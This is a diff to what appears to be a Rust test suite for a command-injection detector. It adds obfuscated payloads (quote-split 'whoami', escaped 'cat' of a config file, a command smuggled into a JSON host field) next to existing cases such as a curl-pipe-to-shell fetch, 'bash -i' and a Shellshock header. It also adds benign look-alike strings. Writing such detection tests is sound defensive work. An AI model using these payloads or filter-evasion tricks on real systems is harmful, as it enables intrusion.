@@ -289,6 +289,14 @@ fn command_injection() {
         (Form, "curl http://e.x/s | sh", "cmdi-001"),
         (Form, "bash -i", "cmdi-004"),
         (Header, "() { :; }; echo vulnerable", "cmdi-004"),
+        // Quotes and backslashes the shell removes before it runs the word.
+        (Form, "x;w'h'o'a'm'i", "cmdi-001"),
+        (Form, "x%3Bwh%22%22oami", "cmdi-001"),
+        (Form, "x|c\\at /app/conf", "cmdi-001"),
+        (Form, "x && una\\me -a", "cmdi-001"),
+        (Json, r#"{"host":"1.1.1.1;w\"ho\"ami"}"#, "cmdi-001"),
+        (Form, "$(who''ami)", "cmdi-002"),
+        (Form, "`wh''oami`", "cmdi-003"),
     ]);
 }
 
@@ -316,6 +324,9 @@ fn benign_look_alikes_pass() {
         "O'Brien",
         "Dunkin' Donuts and O'Reilly",
         "it's the kids' and parents' day",
+        "Tom & Jerry's \"cat\" show; it's on at 5",
+        "rock 'n' roll | \"idle\" hands; who's there",
+        "C:\\Users\\me; D:\\data & E:\\backup",
         "union station",
         "the union selected a new leader",
         "1 + 1 = 2",
